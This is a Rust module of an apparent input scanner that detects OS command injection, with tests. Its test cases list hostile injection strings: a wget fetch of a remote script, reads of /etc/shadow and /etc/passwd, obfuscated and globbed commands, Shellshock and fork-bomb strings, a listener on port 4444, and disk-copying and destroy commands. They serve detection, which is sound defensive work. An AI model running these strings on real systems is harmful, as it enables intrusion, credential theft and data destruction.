//! OS command injection: removes shell obfuscation (empty quotes, backslashes
//! inside words, `$IFS`, unknown `${...}` expansions, brace lists), finds the
//! positions where a shell starts a new command (value start, `;` `|` `&`
//! newline, backticks, `$(`), and judges the command word found there
//! (known Unix and Windows binaries, globbed paths such as `/???/c?t`) by its
//! arguments.

pub mod shell;
pub mod words;

use super::norm::Norm;
use super::{Finding, InputContext, Level, Signal};
use shell::{deobfuscate, obfuscated, special};
use words::{CLEAR, ENGLISHY, SHELLS, WORDY};

/// Detects OS command injection in one value.
pub fn detect(n: &Norm, ctx: InputContext) -> Option<Finding> {
    let plus_spaced;
    let lower = if n.lower.contains('+') && !n.lower.contains(' ') {
        plus_spaced = n.lower.replace('+', " ");
        &plus_spaced
    } else {
        &n.lower
    };
    if let Some(r) = expansion_only(n.lower.trim()) {
        return Some(r.finding(&n.lower));
    }
    let s = deobfuscate(lower);
    // `special` is pure: on the same text the second call repeats the first.
    let mut r = special(&s)
        .or_else(|| (s != n.lower).then(|| special(&n.lower)).flatten())
        .or_else(|| positions(&s, ctx));
    // A weak hit, or a known binary once the obfuscation is undone
    // (`wh$$oami`), is confident when the value needed obfuscation.
    let weak = r.map_or_else(|| obfuscated_word(&s), |r| r.level == Level::Pl2);
    if weak && obfuscated(&n.lower) {
        r = Some(Signal::new(Level::Pl1, "obfuscated command"));
    }
    r.map(|sig| sig.finding(&s))
}

#[derive(Clone, Copy, PartialEq)]
enum Pos {
    Start,
    Sep(bool),
    /// `true` for `$(`, `<(` and `>(`; `false` for a backtick (Markdown
    /// quotes words in backticks too).
    Subst(bool),
}

fn positions(s: &str, ctx: InputContext) -> Option<Signal> {
    let b = s.as_bytes();
    let mut best: Option<Signal> = None;
    let mut i = 0;
    let consider = |at: usize, pos: Pos, best: &mut Option<Signal>| {
        if let Some(r) = judge_at(&s[at..], pos, ctx) {
            if best.is_none_or(|b| r.level < b.level) {
                *best = Some(r);
            }
        }
    };
    consider(0, Pos::Start, &mut best);
    let mut known = usize::from(command_word(s).is_some());
    // Only `;`, `&`, `&&` chains count: `|` also draws Markdown tables.
    let mut seen = 0;
    let mut ticks = 0;
    while i < b.len() && seen < 256 {
        let (pos, skip) = match b[i] {
            b';' => (Some(Pos::Sep(true)), 1),
            b'\n' | b'\r' => (Some(Pos::Sep(false)), 1),
            b'|' | b'&' if b.get(i + 1) == Some(&b[i]) => (Some(Pos::Sep(true)), 2),
            b'|' => (Some(Pos::Sep(true)), 1),
            b'&' => (Some(Pos::Sep(false)), 1),
            // A closing backtick ends a substitution; only an opening one
            // starts a command.
            b'`' => {
                ticks += 1;
                (Some(Pos::Subst(false)).filter(|_| ticks % 2 == 1), 1)
            }
            b'$' | b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (Some(Pos::Subst(true)), 2),
            _ => (None, 1),
        };
        i += skip;
        if let Some(p) = pos {
            seen += 1;
            consider(i, p, &mut best);
            let chained = matches!(b[i - 1], b';' | b'&');
            known += usize::from(chained && command_word(&s[i..]).is_some());
            if known >= 2 && chained && best.is_none_or(|b| b.level > Level::Pl1) {
                best = Some(Signal::new(Level::Pl1, "chain of shell commands"));
            }
            if i <= 2
                && matches!(p, Pos::Sep(true))
                && (flag_shape(&s[i..]) || lone_word(&s[i..]))
                && best.is_none_or(|b| b.level > Level::Pl1)
            {
                best = Some(Signal::new(
                    Level::Pl1,
                    "command line after a leading separator",
                ));
            }
        }
        if best.is_some_and(|b| b.level == Level::Pl1) {
            break;
        }
    }
    best
}

/// `CLEAR.contains(&name)`, by table.
fn is_clear(name: &str) -> bool {
    static M: std::sync::OnceLock<super::WordMap> = std::sync::OnceLock::new();
    M.get_or_init(|| super::word_map(&[(CLEAR, 'c')]))
        .contains_key(name)
}

/// `WORDY.contains(&name)`, by table.
fn is_wordy(name: &str) -> bool {
    static M: std::sync::OnceLock<super::WordMap> = std::sync::OnceLock::new();
    M.get_or_init(|| super::word_map(&[(WORDY, 'w')]))
        .contains_key(name)
}

/// Words that run the command after them.
const WRAPPERS: &[&str] = &[
    "time", "nohup", "sudo", "env", "xargs", "exec", "command", "builtin", "nice", "strace",
    "busybox",
];

/// Tools that run a command given after their own options
/// (`flock -u / whoami`, `cpulimit -l 50 -f id`).
const OPTION_WRAPPERS: &[&str] = &[
    "flock", "cpulimit", "stdbuf", "ionice", "chrt", "setsid", "taskset", "numactl", "unbuffer",
    "firejail", "runuser", "timeout", "sudo", "doas", "nice", "nohup", "env", "strace", "ltrace",
    "xargs", "watch",
];

/// The sqlite3 shell's dot-commands after a statement separator: `.shell`,
/// `.system` and `.sh` then a known binary run it; `.databases`, `.tables`,
/// `.dump` and `.schema` alone list the database. Quotes or a backslash
/// between the dot and the name are read the same by the shell.
fn sqlite_dot_command(rest: &str) -> bool {
    let Some(after) = rest.strip_prefix('.') else {
        return false;
    };
    let after = after.trim_start_matches(['\\', '"', '\'']);
    let end = after
        .find(|c: char| !c.is_ascii_alphabetic())
        .unwrap_or(after.len());
    let (name, tail) = after.split_at(end);
    let arg = tail.trim_start_matches(['\\', '"', '\'', ' ', '\t']);
    let first = arg
        .split(|c: char| c.is_whitespace() || "\\\"';|&".contains(c))
        .next()
        .unwrap_or("");
    match name.to_ascii_lowercase().as_str() {
        "shell" | "system" | "sh" => {
            tail.starts_with([' ', '\t', '\\', '"', '\'']) && is_clear(first)
        }
        "databases" | "tables" | "dump" | "schema" => {
            tail.trim_start_matches([' ', '\t']).is_empty() || tail.starts_with(['\n', '\r', ';'])
        }
        _ => false,
    }
}

fn judge_at(rest: &str, pos: Pos, ctx: InputContext) -> Option<Signal> {
    let mut rest = rest.trim_start_matches(|c: char| {
        c.is_whitespace() || matches!(c, '(' | '{' | '"' | '\'' | '!')
    });
    if matches!(pos, Pos::Sep(true)) && var_run(rest) {
        return Some(Signal::new(Level::Pl1, "variable run as a command"));
    }
    if matches!(pos, Pos::Sep(_)) && sqlite_dot_command(rest) {
        return Some(Signal::new(
            Level::Pl1,
            "SQLite shell command after a separator",
        ));
    }
    if pos == Pos::Start && ctx != InputContext::Path {
        if let Some(hit) = start_shapes(rest) {
            return Some(hit);
        }
    }
    while rest.starts_with('$') && !rest.starts_with("$(") {
        rest = rest
            .trim_start_matches(|c: char| c == '$' || c.is_ascii_alphanumeric() || c == '_')
            .trim_start();
    }
    for w in WRAPPERS {
        if let Some(r) = rest.strip_prefix(w).filter(|r| r.starts_with(' ')) {
            if let Some(hit) = judge_at(r, Pos::Sep(true), ctx) {
                return Some(hit);
            }
        }
    }
    if let Some(hit) = wrapped_command(rest) {
        return Some(hit);
    }
    let word_end = rest
        .find(|c: char| c.is_whitespace() || ";|&`$()<>'\"".contains(c))
        .unwrap_or(rest.len());
    let word = &rest[..word_end];
    let arg = rest[word_end..].trim_start_matches(|c: char| c.is_whitespace() || c == '<');
    let (had_path, name) = split_path(word);
    let name = name.trim_end_matches(".exe");
    // `python3.10`, `gcc7.4`: a binary with its version glued on.
    let name = if !is_clear(name) && name.contains('.') {
        name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
    } else {
        name
    };
    let clear = is_clear(name) || (had_path && glob_match_any(name));
    let wordy = is_wordy(name);
    if !clear && !wordy {
        return None;
    }
    // `cmd < file`: an input redirection is shell syntax.
    // (`mysql> ` with the sign glued to the word is a prompt, not that.)
    let redirected = rest[word_end..].starts_with(char::is_whitespace)
        && rest[word_end..].trim_start().starts_with(['<', '>']);
    let shelly = shelly_arg(arg, name) || redirected && !arg.is_empty();
    let at_end = arg.is_empty() || arg.starts_with(['|', ';', '&', '`', ')', '#']);
    let englishy = ENGLISHY.contains(&name);
    match pos {
        Pos::Subst(strong) if clear || shelly || strong && wordy => {
            Some(Signal::new(Level::Pl1, "command substitution"))
        }
        Pos::Sep(strong)
            if clear && (shelly || at_end || strong && !englishy && arg_plain(arg)) =>
        {
            Some(Signal::new(Level::Pl1, "command after a shell separator"))
        }
        Pos::Sep(_) if wordy && shelly => {
            Some(Signal::new(Level::Pl1, "command after a shell separator"))
        }
        Pos::Sep(_) if had_path => Some(Signal::new(Level::Pl1, "command path after a separator")),
        Pos::Start if had_path && (clear || shelly) && ctx != InputContext::Path => {
            Some(Signal::new(Level::Pl1, "command path"))
        }
        // A User-Agent or Referer is a product token or a URL, never a
        // command line.
        Pos::Start
            if ctx.is_header() && clear && (shelly || !englishy && (at_end || arg_plain(arg))) =>
        {
            Some(Signal::new(Level::Pl1, "command line in a header"))
        }
        Pos::Start if clear && long_flag(arg) => {
            Some(Signal::new(Level::Pl1, "command line with a long option"))
        }
        Pos::Start if clear && !englishy && flag_within(arg, 3) => {
            Some(Signal::new(Level::Pl1, "command line"))
        }
        Pos::Start if clear && englishy && system_path_arg(arg) => {
            Some(Signal::new(Level::Pl1, "command on a system path"))
        }
        Pos::Start
            if clear && SHELLS.contains(&name) && arg.starts_with("-c")
                || name == "nc" && arg.contains("-e") =>
        {
            Some(Signal::new(Level::Pl1, "interpreter invocation"))
        }
        Pos::Start if clear && shelly && !englishy => Some(Signal::new(Level::Pl1, "command line")),
        Pos::Start if wordy && shelly && shelly_arg(after_first(arg), name) => {
            Some(Signal::new(Level::Pl1, "command line"))
        }
        Pos::Start if clear && one_line_command(rest) => {
            Some(Signal::new(Level::Pl1, "command line ended by a newline"))
        }
        Pos::Start if clear && shelly => Some(Signal::new(Level::Pl2, "command line")),
        _ => None,
    }
}

/// A value that is nothing but shell expansions: directory-stack entries
/// (`~+2`, `~-1`) or history references (`!-1!-2`).
fn expansion_only(s: &str) -> Option<Signal> {
    let b = s.as_bytes();
    let dirstack = b.len() >= 3
        && b.len() <= 5
        && b[0] == b'~'
        && matches!(b[1], b'+' | b'-')
        && b[2..].iter().all(u8::is_ascii_digit);
    let history = b.len() >= 6
        && s.starts_with('!')
        && s.split('!').skip(1).count() >= 2
        && s.split('!').skip(1).all(|p| {
            let p = p.strip_prefix('-').unwrap_or(p);
            !p.is_empty() && p.len() <= 4 && p.bytes().all(|c| c.is_ascii_digit())
        });
    (dirstack || history).then_some(Signal::new(Level::Pl1, "shell expansion alone"))
}

/// `flock -u / whoami`: a wrapper, its options, then a known binary.
fn wrapped_command(rest: &str) -> Option<Signal> {
    let mut words = rest.split_whitespace();
    let first = words.next()?;
    if !OPTION_WRAPPERS.contains(&first) {
        return None;
    }
    for w in words.take(6) {
        let (_, name) = split_path(w);
        if is_clear(name) && !ENGLISHY.contains(&name) {
            return Some(Signal::new(Level::Pl1, "command run through a wrapper"));
        }
        // Only the wrapper's options and their values may come between.
        let option = w.starts_with(['-', '+', '/'])
            || w.chars()
                .all(|c| c.is_ascii_digit() || c == '.' || c == ',');
        if !option {
            return None;
        }
    }
    None
}

/// A known binary starts the value once the obfuscation is undone
/// (`wh$$oami`).
fn obfuscated_word(s: &str) -> bool {
    command_word(s).is_some_and(|w| is_clear(w) && !ENGLISHY.contains(&w))
}

/// `$a -x`: a variable holding a command, run with options.
fn var_run(rest: &str) -> bool {
    let Some(r) = rest.strip_prefix('$') else {
        return false;
    };
    let r = r.trim_start_matches('{');
    let name_end = r
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(r.len());
    if name_end == 0 {
        return false;
    }
    let after = r[name_end..].trim_start_matches('}');
    after.starts_with([' ', '\t'])
        && flag_within(after, 1)
        && !after.trim_start()[1..].starts_with(|c: char| c.is_ascii_digit())
}

/// Whole-value shapes that only a shell reads: `alias x=...`, a package-manager install, a binary in a
/// `bin/` directory.
fn start_shapes(rest: &str) -> Option<Signal> {
    let mut words = rest.split_whitespace();
    let first = words.next()?;
    let second = words.next().unwrap_or("");
    if first == "alias" {
        let def = rest
            .split_whitespace()
            .skip(1)
            .find(|w| !w.starts_with(['-', '+']))
            .unwrap_or("");
        let name_end = def.find('=').unwrap_or(0);
        if name_end > 0
            && def[..name_end]
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
        {
            return Some(Signal::new(Level::Pl1, "shell alias definition"));
        }
    }
    const INSTALLERS: &[&str] = &[
        "pip", "pip3", "pipx", "npm", "npx", "pnpm", "yarn", "gem", "apt", "apt-get", "yum", "dnf",
        "apk", "brew", "cargo", "conda", "composer",
    ];
    if INSTALLERS.contains(&first)
        && matches!(second, "install" | "uninstall" | "remove" | "add" | "i")
        && rest.split_whitespace().count() <= 6
    {
        return Some(Signal::new(Level::Pl1, "package installation command"));
    }
    let (dir, _) = first.rsplit_once('/')?;
    let dir = dir.trim_start_matches(['"', '\'']);
    let binny = dir == "bin" || dir == "sbin" || dir.ends_with("/bin") || dir.ends_with("/sbin");
    let name = &first[dir.len() + 1..];
    (binny
        && (2..=24).contains(&name.len())
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_')))
    .then_some(Signal::new(Level::Pl1, "binary in a bin directory"))
}

/// The arguments after the first one.
fn after_first(arg: &str) -> &str {
    let a = arg.trim_start();
    a.find(char::is_whitespace)
        .map(|p| a[p..].trim_start())
        .unwrap_or("")
}

/// `--name`: a GNU long option.
fn long_flag(arg: &str) -> bool {
    arg.split_whitespace()
        .next()
        .and_then(|a| a.strip_prefix("--"))
        .is_some_and(|r| r.len() >= 2 && r.starts_with(|c: char| c.is_ascii_lowercase()))
}

/// A `-x` option among the first `n` arguments, before any shell separator.
fn flag_within(arg: &str, n: usize) -> bool {
    arg.split(['|', ';', '&', '\n'])
        .next()
        .unwrap_or("")
        .split_whitespace()
        .take(n)
        .any(|a| {
            a.len() >= 2
                && a.len() <= 24
                && a.starts_with('-')
                && a[1..]
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '-')
                && a[1..].starts_with(|c: char| c.is_ascii_alphabetic())
        })
}

/// `/etc/passwd`, `/?tc/pa?swd`: an absolute path into the system, or a
/// globbed one.
fn system_path_arg(arg: &str) -> bool {
    let a = arg.split_whitespace().next().unwrap_or("");
    a.starts_with('/')
        && (a.matches('/').count() >= 2
            && a[1..].starts_with(|c: char| c.is_ascii_alphabetic() || c == '?' || c == '*')
            || a.contains(['?', '*']))
}

/// The command word at the start of `rest`, when it is a known binary.
fn command_word(rest: &str) -> Option<&str> {
    let rest = rest.trim_start();
    let end = rest
        .find(|c: char| c.is_whitespace() || ";|&`$()<>'\"".contains(c))
        .unwrap_or(rest.len());
    let (_, name) = split_path(&rest[..end]);
    (is_clear(name) || is_wordy(name) || name == "cd").then_some(name)
}

/// `cmd args\n`: a single line ended by a newline, as a shell reads it.
fn one_line_command(rest: &str) -> bool {
    let body = rest.trim_end_matches(['\n', '\r']);
    rest.len() > body.len() && !body.contains(['\n', '\r']) && body.split_whitespace().count() <= 6
}

/// A command-shaped word alone (`;lastlog`, `|'rmt' --version`).
fn lone_word(rest: &str) -> bool {
    let t = rest.trim();
    let w = t
        .split_whitespace()
        .next()
        .unwrap_or("")
        .trim_matches(['\'', '"']);
    let tail = t.split_whitespace().skip(1).collect::<Vec<_>>();
    (2..=20).contains(&w.len())
        && w.chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-' || c == '_')
        && w.chars().next().is_some_and(|c| c.is_ascii_lowercase())
        && tail.len() <= 3
}

/// `word -flag ...`: the shape of a command line, whatever the binary.
fn flag_shape(rest: &str) -> bool {
    let mut w = rest.split_whitespace();
    let cmd = w.next().unwrap_or("");
    let arg = w.next().unwrap_or("");
    (2..=20).contains(&cmd.len())
        && cmd
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-' || c == '_')
        && arg.len() >= 2
        && arg.starts_with('-')
        && arg[1..].starts_with(|c: char| c.is_ascii_alphabetic())
}

fn arg_plain(arg: &str) -> bool {
    arg.split_whitespace().next().is_some_and(|w| w.len() <= 24)
        && arg.split_whitespace().take(4).count() <= 3
}

fn split_path(word: &str) -> (bool, &str) {
    let w = word.trim_matches(['"', '\'']);
    if w.contains("://") || w.contains('.') && w.find('.') < w.find('/') {
        return (false, w);
    }
    match w.rfind(['/', '\\']) {
        Some(p) => (true, &w[p + 1..]),
        None => (false, w),
    }
}

fn shelly_arg(arg: &str, name: &str) -> bool {
    let a = arg.split_whitespace().next().unwrap_or("");
    if a.is_empty() {
        return false;
    }
    let first = a.chars().next().unwrap_or(' ');
    if "-/~$%\\>".contains(first) && a.len() > 1 || a.starts_with("./") || a.starts_with("../") {
        return true;
    }
    // `if=/etc/passwd`: a key set to an absolute path (dd, find -name=...).
    if a.split_once('=').is_some_and(|(k, v)| {
        !k.is_empty() && k.chars().all(|c| c.is_ascii_alphabetic()) && v.starts_with('/')
    }) {
        return true;
    }
    if a.len() > 2 && a.as_bytes()[1] == b':' && a.as_bytes()[2] == b'\\' {
        return true;
    }
    let netty = matches!(
        name,
        "ping" | "host" | "dig" | "nslookup" | "curl" | "wget" | "nc" | "telnet" | "whois"
    );
    if netty && a.contains('.') {
        return true;
    }
    matches!(name, "sleep" | "timeout" | "ping") && a.chars().all(|c| c.is_ascii_digit())
}

fn glob_match_any(name: &str) -> bool {
    if !name.contains(['?', '*', '[']) {
        return false;
    }
    CLEAR
        .iter()
        .chain(WORDY)
        .any(|c| glob(name.as_bytes(), c.as_bytes()))
}

fn glob(p: &[u8], s: &[u8]) -> bool {
    match (p.first(), s.first()) {
        (None, None) => true,
        (Some(b'*'), _) => glob(&p[1..], s) || (!s.is_empty() && glob(p, &s[1..])),
        (Some(b'?'), Some(_)) => glob(&p[1..], &s[1..]),
        (Some(a), Some(b)) if a == b => glob(&p[1..], &s[1..]),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lvl(s: &str) -> Option<Level> {
        detect(&Norm::new(s), InputContext::QueryValue).map(|f| f.level)
    }

    #[test]
    fn catches_commands() {
        for s in [
            "8.8.8.8; whoami",
            "x | c''at /etc/hostname",
            "a && /???/c?t /etc/group",
            "q`uname -a`",
            "z$(id)",
            "name\nwget http://198.51.100.7/x.sh",
            "y;ca\\t${IFS}/etc/issue",
            "| dir c:\\windows",
            "& ping -n 3 192.0.2.1",
            "foo;{ls,-la,/}",
            "abc & cmd.exe /c ver",
            "bash -c 'touch /tmp/p'",
            "echo $((6*7))",
            "for /f %i in ('whoami') do echo %i",
            "v=${`id`}",
            "pi$()ng -c 1 192.0.2.1",
            "time curl example.org",
            "IF EXIST C:\\boot.ini ECHO yes",
            "f(){ f|f& };f",
            ";anytool -x whatever",
            "cd /;cd etc;more passwd",
            ";sometool",
            "uname -r\n",
            "() { :; }; echo vulnerable",
            "g(){ g & g; }; g",
            "nohup whoami\n",
            "IF /I \"%v%\" GEQ \"2\" ECHO two",
            "/bin/ca't' /etc/hostname",
            "x|type %SYSTEMROOT%\\win.ini",
            "7;.shell uname -a",
            "2; .system id",
            "0;.\\\"sh whoami",
            "9;\n.tables",
        ] {
            assert_eq!(lvl(s), Some(Level::Pl1), "{s}");
        }
    }

    #[test]
    fn passes_text() {
        for s in [
            "Tom & Jerry",
            "cats | dogs",
            "first; then more to come",
            "rock & roll; we sleep well",
            "the cat sat on the mat",
            "salt & pepper & time",
            "find the best deal",
            "A|B testing",
            "see ch. 3; -5 degrees",
            "first; then more; done",
            "Windows 11; .system requirements",
            "scripts; .sh files run anywhere",
            "see the docs; .tables are below",
        ] {
            assert_ne!(lvl(s), Some(Level::Pl1), "{s}");
        }
    }

    #[test]
    fn catches_admin_tools_and_shell_tricks() {
        for s in [
            "terraform destroy -auto-approve",
            "kubectl get secrets -A",
            "uname --all",
            "cat /e[?]c/shadow",
            "x;$b -lvnp 4444",
            "alias ll2=whoami",
            "alias -p q=id",
            "npm install left-padder",
            "usr/local/bin/runme",
            "{,uname,-a}",
            "$SHELL -c id",
            "${SHELL} -c id",
            "wh$$oami",
            "una$-me -a",
            "q$(tee /tmp/o)",
            "ping`` 10.0.0.1",
            "x&nmcli",
            "dd if=/dev/sda of=/tmp/disk",
            "flock -x /tmp uname",
            "x | gcc9.1",
            "a&ipconfig < in.txt",
            "ionice -c 3 ifconfig",
            "~+3",
            "!-2!-3",
        ] {
            assert_eq!(lvl(s), Some(Level::Pl1), "{s}");
        }
        let header = |s: &str| detect(&Norm::new(s), InputContext::UserAgent).map(|f| f.level);
        for s in [
            "nmap -sV 192.0.2.4",
            "cat /etc/shadow",
            "visudo",
            "kubectl get pods",
        ] {
            assert_eq!(header(s), Some(Level::Pl1), "{s}");
        }
        for s in [
            "Mozilla/5.0 (X11; Linux x86_64)",
            "curl/8.5.0",
            "Docker/24.0 (linux)",
            "https://example.com/search?q=cat",
        ] {
            assert_eq!(header(s), None, "{s}");
        }
    }

    #[test]
    fn passes_tool_names_in_prose() {
        for s in [
            "pip is a package manager",
            "alias: the Smith family",
            "docker is great",
            "the --verbose flag",
            "terraform apply failed again",
            "sort by date",
            "use `sort` here",
            "about ~5 minutes",
            "a{,3}",
            "bin/report.pdf",
            "ansible",
            "kubectl docs",
            "timeout after 5 seconds",
            "watch the whoami video",
            "python3.10 is out",
            "~5",
            "wow!!",
            "!1",
            "done; mysql> grant all on db.* to u",
        ] {
            assert_ne!(lvl(s), Some(Level::Pl1), "{s}");
        }
    }

    #[test]
    fn guarded_shell_shapes_still_caught() {
        for s in [
            "IF/I a==a echo same",
            "if\texist c:\\pagefile.sys echo there",
            "if not defined q echo unset",
            "x iex (get-content c:/t.ps1)",
            "iwr https://example.net/a.ps1",
            "x invoke-webrequest -uri y",
            "for %f in (*.log) do type %f",
            "echo owned > /var/www/html/x.txt",
            "printf a 2>>/tmp/q",
            "Echo Hi >/etc/cron.d/job",
        ] {
            assert_eq!(lvl(s), Some(Level::Pl1), "{s}");
        }
        assert!(special("gift wrap, deliver after 5pm").is_none());
    }

    #[test]
    fn word_tables_match_the_lists() {
        let mut words: Vec<&str> = [CLEAR, WORDY].concat();
        words.extend(["", "x", "whoam", "whoamii", "Cat", "cd", "ls.exe"]);
        for w in words {
            assert_eq!(is_clear(w), CLEAR.contains(&w), "{w}");
            assert_eq!(is_wordy(w), WORDY.contains(&w), "{w}");
        }
    }
}
